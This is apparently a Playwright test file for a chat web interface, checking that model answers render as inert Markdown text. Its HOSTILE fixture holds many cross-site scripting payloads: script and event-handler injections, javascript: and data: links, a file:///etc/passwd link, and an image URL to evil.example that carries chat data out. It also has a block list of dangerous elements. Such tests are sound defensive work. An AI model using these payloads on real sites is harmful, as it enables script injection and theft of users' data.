"""Whatever a model says is text: it runs nothing, loads nothing, and does not block the page."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from tests.server.scripted import thinks

from .driving import Chat

expect = pytest.importorskip("playwright.sync_api", reason="needs playwright: .[dev]").expect

Start = Callable[..., Chat]

HOSTILE = r"""
<script>window.hacked = 1</script>
<img src="https://evil.example/a.png" onerror="window.hacked = 1">
<svg onload="window.hacked = 1"><style>* { display: none }</style></svg>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><button>Send</button></form>
<div id="message" class="notices" style="position: fixed">over the page</div>
<a href="javascript:window.hacked = 1">one</a>
<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1"></style></math>

![picture](https://evil.example/b.png?chat=secret)
![data](data:text/html;base64,PHNjcmlwdD4)
[two](javascript:window.hacked=1) [three](JaVaScRiPt&colon;window.hacked=1)
[four](data:text/html,<script>window.hacked=1</script>) [five](vbscript:x) [six](file:///etc/passwd)
[seven][ref] <javascript:window.hacked=1> <https://evil.example/"onmouseover="window.hacked=1>
[eight](https://evil.example/?q=x "title\" onclick=window.hacked=1 x=")

[ref]: javascript:window.hacked=1

```html" onclick="window.hacked = 1
<script>window.hacked = 1</script>
```

$\href{javascript:window.hacked=1}{x} \url{https://evil.example} \includegraphics{https://evil.example/c.png}$
$\class{notices}{\style{position:fixed}{y}} \html{<img src=x onerror=window.hacked=1>}$
$$\def\a{\a\a}\a$$
$\frac{1}{2}$ is fine.

| a <script>window.hacked = 1</script> | b |
| :-- | --: |
| <b onclick="window.hacked = 1">x</b> | `<i>` |
"""

BROKEN = [
    "**bold _both** end_ `code ``` ~~~ [link](http://x.y (z) ![",
    "```\nnever closed",
    "> " * 500 + "deep",
    "\n".join("  " * n + "- item" for n in range(200)),
    "[" * 5_000 + "](x)",
    "*" * 5_000 + "a" + "_" * 5_000,
    "$" + "{" * 3_000 + "$ and $$\\frac{$$",
    "| a | b |\n|---|\n" + "|" * 2_000,
    "a\u202eb\u0000c\ufeff\u2028d \U000e0041",
    "&lt;script&gt; &#x3c;img src=x onerror=alert(1)&#x3e; &nbsp;" * 50,
]


def harmless(page: Chat) -> None:
    """Nothing has run, and no element is there that the page does not make of Markdown."""
    assert page.page.evaluate("window.hacked") is None
    found = page.page.evaluate(
        """() => {
          const inside = [...document.querySelectorAll(".markdown *")];
          const wrong = "script, img, svg, style, iframe, form, object, embed, link, video, input";
          return {
            elements: inside.filter((each) => each.matches(wrong)).map((each) => each.outerHTML),
            handlers: inside.flatMap((each) =>
              each.getAttributeNames().filter((name) => /^on|^style$|^id$|^src/.test(name))),
            links: inside.filter((each) => each.matches("a"))
              .map((each) => [each.protocol, each.rel, each.target]),
          };
        }"""
    )
    assert found["elements"] == []
    assert found["handlers"] == []
    for protocol, relation, target in found["links"]:
        assert protocol in ("https:", "http:", "mailto:")
        assert "noopener" in relation
        assert "noreferrer" in relation
        assert target == "_blank"


def test_hostile_answers_are_text(chat: Start) -> None:
    page = chat([*thinks(HOSTILE), HOSTILE])
    answer = page.answered(HOSTILE)
    answer.get_by_text("Thought for").click()
    expect(answer.get_by_text("over the page").first).to_be_visible()
    expect(answer.get_by_role("link", name="Image: picture").first).to_be_visible()
    expect(answer.locator(".math.drawn").first).to_be_attached()
    harmless(page)
    page.button("Export, import, save").click()  # the page is still as it was
    expect(page.page.get_by_role("dialog")).to_be_visible()


@pytest.mark.parametrize(
    "text", BROKEN, ids=[text[:12].encode("unicode_escape").decode() for text in BROKEN]
)
def test_broken_markdown_does_not_break_the_page(chat: Start, text: str) -> None:
    page = chat("Fine.")
    answering(page, [text])
    page.answered("Go.")
    harmless(page)
    go_on(page)


@pytest.mark.parametrize("line", ["line\n\n", "- item\n", "`x` **y** "])
def test_a_hundred_thousand_lines_do_not_block_the_page(chat: Start, line: str) -> None:
    page = chat("Fine.")
    answering(page, [line * 1_000] * 50 + ["\n```\n", *["code\n" * 1_000] * 50, "\nThe end."])
    page.ask("Go.")
    expect(page.answers).to_contain_text("The end.")
    page.wait_until_answered()
    assert page.page.evaluate("document.querySelectorAll('.markdown *').length") < 150_000
    go_on(page)


def go_on(page: Chat) -> None:
    """A new chat gets an answer as if nothing had been."""
    page.page.unroute("**/v1/chat/completions")
    page.page.keyboard.press("Alt+n")
    expect(page.questions).to_have_count(0)
    expect(page.answered("And now?")).to_contain_text("Fine.")


def answering(page: Chat, pieces: list[str]) -> None:
    """Have the page get these pieces as an answer, all at once: a server sends them slower."""
    deltas = [{"choices": [{"delta": {"content": each}, "finish_reason": None}]} for each in pieces]
    end = {"choices": [{"delta": {}, "finish_reason": "stop"}]}
    body = "".join(f"data: {json.dumps(each)}\n\n" for each in [*deltas, end])
    page.page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(
            content_type="text/event-stream", body=f"{body}data: [DONE]\n\n"
        ),
    )
